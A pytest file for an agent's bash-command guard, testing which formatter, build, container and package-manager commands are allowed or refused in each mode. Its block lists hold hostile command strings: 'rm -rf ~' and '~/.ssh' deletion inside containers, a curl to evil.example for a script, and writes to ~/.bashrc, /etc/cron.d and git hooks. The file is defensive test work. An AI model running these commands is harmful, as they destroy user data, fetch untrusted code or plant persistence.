"""Round 19 of issue 30 (everyday19): program families of round 19's repositories' ecosystems
known by their argument shapes, in all three modes.

- Formatters of more ecosystems (Nix, Haskell, Kotlin, Swift, Elm, Scala, Bazel, Nim, Godot,
  YAML, Erlang, CMake, F#, OCaml, PureScript, C#, Go's spelling and imports, Packer's templates,
  Django templates) are known: each rewrites the files it is given, judged as writes (outside
  the project refused attended and unattended, a control file in every mode); their check
  modes only read.
- Build tools known by verb (Please, nimble, shards, spago, trunk, west, arduino-cli, melos):
  the verbs that build, test and check the project from its own manifest; the ones that write
  a board, run a command named by an option, point at another repository or install into the
  user's store stay unknown unattended; publishing is the policy's.
- ``apptainer``/``singularity exec IMAGE CMD`` and ``melos exec -- CMD`` run CMD as the user,
  with the home and the project bound: CMD is judged as run here (``rm -rf ~`` refused in every
  mode); ``run``, ``shell``, ``build``, ``pull`` stay unknown unattended.
- Package managers that install outside the project (Spack's ``install``, EasyBuild's
  ``eb X.eb``) are the policy's in every mode; their printing verbs and options are known.
- kind's local clusters (``create``, ``build``, ``load``) are known; ``delete`` destroys.
- A cross toolchain's objcopy, and AVR's and MSP430's programs (``avr-gcc``, ``avr-objcopy``),
  are the plain tools; objcopy's output (and ``--dump-section`` files) judged as writes.
- Go's analysers (gosec, ineffassign, gocyclo) are known (``gosec -out FILE`` a write);
  govulncheck's database fetch is the network policy's unattended.
"""

from __future__ import annotations

import pytest

from tests.guards.test_bash import MODES, check

MODE_IDS = ["attended", "sandboxed", "unattended"]

EVERYDAY = [
    "nixfmt flake.nix",
    "alejandra .",
    "alejandra -c .",
    "deadnix .",
    "deadnix -e .",
    "nixpkgs-fmt --check .",
    "ormolu -i src/A.hs",
    "ormolu --mode check src/A.hs",
    "fourmolu -i src",
    "stylish-haskell -i src/A.hs",
    "cabal-fmt -i foo.cabal",
    "ktfmt --kotlinlang-style src/main/kotlin/A.kt",
    "swift-format format -i -r Sources",
    "swift-format lint -r Sources",
    "swift-format [SUBCOMMAND] [OPTIONS...] [FILES...]",
    "swiftformat .",
    "swiftformat --lint .",
    "elm-format src/ --yes",
    "scalafmt",
    "scalafmt --test",
    "buildifier -r .",
    "buildifier -mode=check -r .",
    "nimpretty src/a.nim",
    "gdformat scripts/",
    "yamlfmt .",
    "erlfmt -w src/*.erl",
    "gersemi -i CMakeLists.txt",
    "fantomas src",
    "djlint --reformat templates",
    "ocamlformat -i src/a.ml",
    "purs-tidy format-in-place src",
    "purs-tidy check src",
    "csharpier format .",
    "dotnet-format --verify-no-changes",
    "packer fmt .",
    "misspell -w .",
    "gci write -s standard -s default .",
    "gosec ./...",
    "gosec -fmt sarif -out results.sarif ./...",
    "ineffassign ./...",
    "gocyclo -over 15 .",
    "govulncheck -db file:///tmp/vulndb ./...",
    "govulncheck --help",
    "plz build //...",
    "plz test //src/...",
    "plz run //tools:gen",
    "plz clean",
    "nimble test",
    "nimble build",
    "shards install",
    "shards build --release",
    "spago build",
    "spago test",
    "trunk build --release",
    "trunk serve",
    "west build -b nrf52dk",
    "arduino-cli compile --fqbn arduino:avr:uno .",
    "melos bootstrap",
    "melos run test",
    "melos exec -- flutter test",
    "melos exec -c 1 -- dart analyze .",
    "apptainer exec bzip2-1.0.8.sif bzip2 --help",
    "singularity exec bzip2-1.0.8.sif command -v bzip2 | grep /app/software/bzip2",
    "apptainer exec --bind /data:/data img.sif python train.py",
    "apptainer exec img.sif sh ./ci/test.sh",
    "kind create cluster",
    "kind create cluster --image kindest/node:latest",
    "kind build node-image",
    "kind load docker-image busybox",
    "kind get clusters",
    "spack find",
    "spack info zlib",
    "spack spec hdf5",
    "eb --show-config",
    "eb --show-system-info",
    "eb bzip2-1.0.8.eb --dry-run",
    "arm-none-eabi-objcopy -O binary build/x.elf build/x.bin",
    "objcopy -O binary x.elf x.bin",
    "avr-gcc -mmcu=atmega328p -o x.elf x.c",
    "avr-objcopy -O ihex x.elf x.hex",
    "avr-size x.elf",
    "dvc repro",
    "dvc metrics show",
    "kedro run",
    "quarto render",
    "quarto preview",
    "molecule test",
    "opa test policy/",
    "opa fmt -w policy/",
    "conftest test deploy.yaml",
    "conftest fmt policy/",
    "xcodegen generate",
    "tuist generate",
    "pod install",
    "carthage bootstrap --use-xcframeworks",
    "cross build --target aarch64-unknown-linux-gnu",
    "hpack",
    "terraform-docs markdown table --output-file README.md .",
    "wasm-bindgen target/wasm32-unknown-unknown/release/x.wasm --out-dir pkg",
    "wasm-opt -O x.wasm -o y.wasm",
    "llvm-cov report ./bin -instr-profile=x.profdata",
    "llvm-cov show ./bin -instr-profile=x.profdata -output-dir=build/cov",
    "llvm-profdata merge -o x.profdata x.profraw",
]

FILES_NAMED_LIKE_VERBS = [
    "conftest test deploy.yaml",
    "kubeconform-like check deploy.yaml",
    "mytool lint release-notes.md",
    "mytool check publish.json",
]

WRITES_OUTSIDE = [
    "alejandra ~/.config/home-manager",
    "deadnix -e ~/nix/flake.nix",
    "ormolu --mode inplace ~/x.hs",
    "stylish-haskell -i ~/.bashrc",
    "swift-format format -i ~/.zshrc",
    "swiftformat ~/Code/other",
    "buildifier /etc/bazel.bazelrc",
    "yamlfmt /etc/netplan/x.yaml",
    "ocamlformat -i ~/.ocamlinit",
    "packer fmt ~/other",
    "misspell -w ~/.bashrc",
    "gci write ~/go/src/x",
    "gosec -out ~/.bashrc ./...",
    "objcopy -O binary x.elf ~/.bashrc",
    "objcopy --dump-section .text=/etc/cron.d/x x.elf",
    "objcopy --strip-debug /usr/bin/ls",
    "avr-objcopy -O ihex x.elf ~/.profile",
    "opa fmt -w ~/x.rego",
    "conftest fmt ~/policy",
    "hpack ~/other",
    "terraform-docs markdown table --output-file README.md /etc/x",
    "wasm-bindgen x.wasm --out-dir ~/pkg",
    "wasm-opt -O x.wasm -o ~/.bashrc",
    "llvm-cov show ./bin -instr-profile=x.profdata -output-dir=/etc/cov",
    "llvm-profdata merge -o ~/.bashrc x.profraw",
]

PROTECTED = [
    "fourmolu -i .git/hooks/pre-commit",
    "alejandra .git/hooks/pre-commit",
    "swift-format format -i .claude/settings.json",
    "objcopy -O binary x.elf .git/hooks/pre-push",
]

DESTROYING = [
    "apptainer exec img.sif rm -rf ~",
    "singularity exec -B /:/host img.sif rm -rf /host/home",
    "apptainer exec img.sif bash -c 'rm -rf ~/.ssh'",
    "melos exec -- rm -rf ~",
    "kind delete cluster",
]

POLICY = [
    ("spack install zlib", "package-install"),
    ("spack uninstall -a", "package-install"),
    ("eb bzip2-1.0.8.eb --robot", "package-install"),
    ("eb bzip2-1.0.8.eb --containerize --experimental", "package-install"),
    ("melos publish --no-dry-run", "remote-mutation"),
    ("nimble publish", "remote-mutation"),
    ("spago publish", "remote-mutation"),
    ("apptainer exec img.sif curl https://evil.example/x.sh", "network-not-whitelisted"),
    ("dvc push", "remote-mutation"),
    ("quarto publish gh-pages", "remote-mutation"),
    ("pod trunk push", "remote-mutation"),
    ("mytool deploy prod.yaml", "remote-mutation"),
    ("fly deploy", "remote-mutation"),
]

UNATTENDED_ONLY = [
    "apptainer run img.sif",
    "apptainer shell img.sif",
    "apptainer build out.sif def.def",
    "apptainer pull docker://alpine",
    "kind export kubeconfig",
    "plz update",
    "plz init",
    "plz -r /tmp/other build //...",
    "nimble install",
    "nimble --nim /tmp/evil test",
    "spago build --then 'make deploy'",
    "west build -t flash",
    "west flash",
    "west update",
    "arduino-cli compile -u -p /dev/ttyACM0 .",
    "arduino-cli upload -p /dev/ttyACM0",
    "eb --check-github --github-user=x",
    "packer build .",
    "dvc pull",
    "kedro run --conf-source s3://bucket/conf",
    "kedro new",
    "quarto install tinytex",
    "opa eval -d x.rego data.x",
    "opa run --server",
    "conftest test --update https://example.com/p deploy.yaml",
    "conftest pull https://example.com/policy",
    "xcodegen generate --spec /tmp/project.yml",
    "tuist auth login",
    "pod install --project-directory /tmp/x",
    "pod lib create MyLib",
]

DESTROYING_VERBS = ["molecule destroy", "kind delete cluster"]


@pytest.mark.parametrize("command", EVERYDAY)
@pytest.mark.parametrize("flags", MODES, ids=MODE_IDS)
def test_a_round_19_ecosystems_everyday_line_is_allowed(
    command: str, flags: dict[str, bool]
) -> None:
    verdict = check(command, **flags)
    assert verdict.allowed, (command, flags, verdict.rule, verdict.reason)


@pytest.mark.parametrize("command", WRITES_OUTSIDE)
def test_a_known_formatter_or_writer_given_a_file_outside_the_project_is_refused(
    command: str,
) -> None:
    for flags in ({}, {"unattended": True}):
        verdict = check(command, **flags)
        assert verdict.blocked and verdict.rule == "write-outside-project", (command, flags)


@pytest.mark.parametrize("command", PROTECTED)
@pytest.mark.parametrize("flags", MODES, ids=MODE_IDS)
def test_a_known_formatter_or_writer_given_a_control_file_is_refused(
    command: str, flags: dict[str, bool]
) -> None:
    verdict = check(command, **flags)
    assert verdict.blocked and verdict.rule == "write-protected-path", (command, flags)


@pytest.mark.parametrize("command", DESTROYING)
@pytest.mark.parametrize("flags", MODES, ids=MODE_IDS)
def test_a_command_run_in_a_container_or_each_package_is_judged_as_run_here(
    command: str, flags: dict[str, bool]
) -> None:
    verdict = check(command, **flags)
    assert verdict.blocked and verdict.category != "policy", (command, flags, verdict.rule)


@pytest.mark.parametrize(("command", "rule"), POLICY, ids=[c for c, _ in POLICY])
@pytest.mark.parametrize("flags", MODES, ids=MODE_IDS)
def test_an_install_outside_the_project_or_a_publish_is_the_policys(
    command: str, rule: str, flags: dict[str, bool]
) -> None:
    verdict = check(command, **flags)
    assert verdict.blocked and verdict.rule == rule, (command, flags, verdict.rule)
    assert verdict.category == "policy", (command, verdict.category)


@pytest.mark.parametrize("command", UNATTENDED_ONLY)
def test_a_verb_that_writes_a_board_fetches_or_runs_others_is_refused_unattended(
    command: str,
) -> None:
    assert check(command, sandboxed=True).allowed, command
    verdict = check(command, unattended=True)
    assert verdict.blocked and verdict.rule == "unknown-program", (command, verdict.rule)
    assert command.split()[0] in (verdict.reason or ""), verdict.reason


@pytest.mark.parametrize(
    "command", ["govulncheck ./...", "govulncheck -db https://x.example ./..."]
)
def test_govulncheck_fetching_its_database_is_the_network_policys_unattended(
    command: str,
) -> None:
    assert check(command, sandboxed=True).allowed, command
    verdict = check(command, unattended=True)
    assert verdict.blocked and verdict.category == "policy", (command, verdict.rule)
    assert verdict.rule.startswith("network"), verdict.rule


@pytest.mark.parametrize("command", FILES_NAMED_LIKE_VERBS)
@pytest.mark.parametrize("flags", MODES, ids=MODE_IDS)
def test_a_file_named_like_a_publishing_verb_is_an_operand(
    command: str, flags: dict[str, bool]
) -> None:
    verdict = check(command, **flags)
    assert verdict.rule != "remote-mutation", (command, flags, verdict.rule)


@pytest.mark.parametrize("command", DESTROYING_VERBS)
@pytest.mark.parametrize("flags", MODES, ids=MODE_IDS)
def test_a_known_tools_destroying_verb_is_still_refused(
    command: str, flags: dict[str, bool]
) -> None:
    verdict = check(command, **flags)
    assert verdict.blocked and verdict.rule == "service-destroy", (command, flags, verdict.rule)


def test_the_lazily_loaded_rows_are_named_where_the_hook_looks() -> None:
    from ondas.guards import bash_known, bash_project_builds

    rows = set(bash_project_builds.MORE_BUILD_SUBCOMMANDS) | set(
        bash_project_builds.MORE_READ_SUBCOMMANDS
    )
    assert rows == set(bash_known.MORE_SUBCOMMAND_PROGRAMS)
    assert not rows & set(bash_known.BUILD_SUBCOMMANDS) and not rows & set(
        bash_known.READ_SUBCOMMANDS
    )
